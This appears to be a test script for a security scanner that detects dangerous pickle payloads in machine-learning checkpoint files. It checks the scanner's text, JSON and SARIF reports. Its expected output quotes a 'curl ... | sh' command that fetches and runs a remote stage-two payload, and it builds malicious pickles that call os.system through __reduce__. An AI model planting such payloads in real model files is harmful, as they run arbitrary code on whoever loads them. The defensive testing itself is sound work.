#!/usr/bin/env bash
# Weights in the same report as code: scans examples/poisoned-checkpoint-model and checks the
# checkpoint's finding in text (member, offset, escaped excerpt, no raw bytes), JSON (`bytes`,
# on load with its chain) and SARIF (member and offset), beside the code finding; and that a
# checkpoint above --max-file-size is still read (mapped), while other large files are skipped;
# and each weights file's verdict (safe format, allowed, unknown, dangerous, unreadable).
# Run by ctest with WARDEN and WARDEN_SOURCE_DIR set.
set -uo pipefail
: "${WARDEN:?set WARDEN to the warden binary}" "${WARDEN_SOURCE_DIR:?set WARDEN_SOURCE_DIR}"
command -v python3 >/dev/null || { echo "FAIL: python3 is needed (scripts/setup.sh --tests)"; exit 1; }

repo="$WARDEN_SOURCE_DIR/examples/poisoned-checkpoint-model"
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT
failures=0
pass() { echo "PASS: $*"; }
fail() { echo "FAIL: $*"; failures=$((failures + 1)); }

# --- text ------------------------------------------------------------------------------
"$WARDEN" scan --no-color "$repo" >"$tmp/out.txt" 2>&1
head_line="$repo/pytorch_model.bin!archive/data.pkl@81: warning: loading this file runs posix.system: runs commands, and reads, writes and deletes files (imported by STACK_GLOBAL): called with ('curl -s http://203.0.113.9/stage2 | sh >/dev/null 2>&1',) [weights-pickle-dangerous-callable]"
if grep -qxF "$head_line" "$tmp/out.txt"; then pass "text: the checkpoint's finding, with member, offset and command"
else fail "text: no line '$head_line' in:"; cat "$tmp/out.txt"; fi
if grep -A1 -F "pytorch_model.bin!archive/data.pkl@81:" "$tmp/out.txt" | grep -qxF '\x93\x94\x8c6curl -s http://203.0.113.9/stage2 | sh >/dev...'; then
  pass "text: the excerpt is escaped"
else fail "text: no escaped excerpt under the finding"; fi
if LC_ALL=C grep -q $'[\x80-\xff]' "$tmp/out.txt"; then fail "text: raw bytes in the report"; else pass "text: no raw bytes"; fi
if grep -qF "note: from_pretrained loads pytorch_model.bin with torch.load: no pytorch_model.safetensors stands beside it" "$tmp/out.txt"; then
  pass "text: the checkpoint runs on load, with the reason"
else fail "text: no on-load chain for the checkpoint"; fi

# --- JSON and SARIF ----------------------------------------------------------------------
"$WARDEN" scan --format json "$repo" >"$tmp/out.json" 2>/dev/null
"$WARDEN" scan --format sarif "$repo" >"$tmp/out.sarif" 2>/dev/null
if python3 - "$tmp/out.json" "$tmp/out.sarif" >"$tmp/py.txt" 2>&1 <<'PY'
import json, sys
doc = json.load(open(sys.argv[1]))
weights = [f for f in doc["findings"] if f["bytes"]]
assert len(weights) == 1, weights
f = weights[0]
assert f["rule_id"] == "weights-pickle-dangerous-callable", f
assert f["bytes"] == {"member": "archive/data.pkl", "offset": 81}, f["bytes"]
assert f["cwe"] == [502] and f["severity"] == "critical", f
assert f["on_load"] == "yes" and f["load_chain"], f
assert f["trace"][0]["bytes"] == {"member": "archive/data.pkl", "offset": 142}, f["trace"]
code = [g for g in doc["findings"] if g["rule_id"] == "py-exec-os-system"]
assert code and code[0]["on_load"] == "yes", code
sarif = json.load(open(sys.argv[2]))
results = [r for r in sarif["runs"][0]["results"] if r["ruleId"] == "weights-pickle-dangerous-callable"]
assert len(results) == 1, results
loc = results[0]["locations"][0]["physicalLocation"]
assert loc["properties"]["member"] == "archive/data.pkl" and loc["properties"]["memberOffset"] == 81, loc
assert "region" not in loc, loc
PY
then pass "json and sarif: bytes, on load, member and offset"
else fail "json/sarif:"; cat "$tmp/py.txt"; fi

# --- a checkpoint above --max-file-size ---------------------------------------------------
mkdir "$tmp/big"
python3 - "$tmp/big" <<'PY'
import sys
# A protocol 0 pickle followed by 3 MB of data: a pickle is read to its STOP.
open(sys.argv[1] + "/payload.dat", "wb").write(b"cos\nsystem\n(S'id'\ntR." + bytes(3 << 20))
open(sys.argv[1] + "/notes.dat", "wb").write(b"x" * (3 << 20))
PY
"$WARDEN" scan --format json --max-file-size 1048576 "$tmp/big" >"$tmp/big.json" 2>/dev/null
if python3 - "$tmp/big.json" >"$tmp/py.txt" 2>&1 <<'PY'
import json, sys
doc = json.load(open(sys.argv[1]))
hits = {f["file"].rsplit("/", 1)[1] for f in doc["findings"] if f["rule_id"] == "weights-pickle-dangerous-callable"}
assert "payload.dat" in hits, doc["findings"]
skipped = {s["file"].rsplit("/", 1)[1]: s["reason"] for s in doc["skipped"]}
assert skipped.get("notes.dat") == "too-large", skipped
PY
then pass "a weights file above --max-file-size is read mapped; other large files are skipped"
else fail "large files:"; cat "$tmp/py.txt"; fi

# --- one verdict per weights file ------------------------------------------------------------
mkdir "$tmp/verdicts"
python3 - "$tmp/verdicts" <<'PY'
import collections, json, os, pickle, struct, sys, types
d = sys.argv[1]
header = json.dumps({"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}).encode()
open(d + "/model.safetensors", "wb").write(struct.pack("<Q", len(header)) + header + bytes(8))
open(d + "/state.pkl", "wb").write(pickle.dumps(collections.OrderedDict(a=1), protocol=2))
mod = types.ModuleType("custom_layers")
class Gate:  # pickled by reference only: nothing here is ever loaded
    pass
Gate.__module__, Gate.__qualname__ = "custom_layers", "Gate"
mod.Gate = Gate
sys.modules["custom_layers"] = mod
open(d + "/custom.pkl", "wb").write(pickle.dumps(Gate(), protocol=2))
class System:
    def __reduce__(self):
        return (os.system, ("id",))
payload = pickle.dumps(System(), protocol=2)
open(d + "/payload.pkl", "wb").write(payload)
open(d + "/cut.pkl", "wb").write(pickle.dumps(collections.OrderedDict(a="x" * 40), protocol=2)[:30])
PY
"$WARDEN" scan --format json "$tmp/verdicts" >"$tmp/verdicts.json" 2>/dev/null
"$WARDEN" scan --format sarif "$tmp/verdicts" >"$tmp/verdicts.sarif" 2>/dev/null
"$WARDEN" scan --no-color "$tmp/verdicts" >"$tmp/verdicts.txt" 2>&1
if python3 - "$tmp/verdicts.json" "$tmp/verdicts.sarif" >"$tmp/py.txt" 2>&1 <<'PY'
import json, sys
doc = json.load(open(sys.argv[1]))
got = {w["file"].rsplit("/", 1)[1]: (w["format"], w["verdict"]) for w in doc["weights"]}
want = {"model.safetensors": ("safetensors", "safe-format"), "state.pkl": ("pickle", "allowed"),
        "custom.pkl": ("pickle", "unknown"), "payload.pkl": ("pickle", "dangerous"), "cut.pkl": ("pickle", "unreadable")}
assert got == want, got
custom = [w for w in doc["weights"] if w["file"].endswith("custom.pkl")][0]
assert custom["callables"]["unknown"] == 1 and custom["pickles"] == 1, custom
sarif = json.load(open(sys.argv[2]))
artifacts = {a["location"]["uri"].rsplit("/", 1)[1]: a["properties"]["weightsVerdict"] for a in sarif["runs"][0]["artifacts"]}
assert artifacts == {k: v[1] for k, v in want.items()}, artifacts
PY
then pass "one verdict per weights file (safe format, allowed, unknown, dangerous, unreadable), in JSON and SARIF"
else fail "verdicts:"; cat "$tmp/py.txt"; fi
if grep -qxF "weights: 5 files read: 1 dangerous, 1 unreadable, 1 unknown, 1 allowed, 1 safe-format" "$tmp/verdicts.txt"; then
  pass "text: the weights line counts the verdicts"
else fail "text: no weights line in:"; cat "$tmp/verdicts.txt"; fi
if python3 -c "import json,sys; w=[w for w in json.load(open(sys.argv[1]))['weights'] if w['file'].endswith('pytorch_model.bin')]; sys.exit(0 if w and w[0]['on_load']=='yes' else 1)" "$tmp/out.json"; then
  pass "the example's checkpoint is read on load"
else fail "the example's checkpoint is not on load in the weights list"; fi

if ((failures)); then echo "$failures failed"; exit 1; fi
echo "all passed"
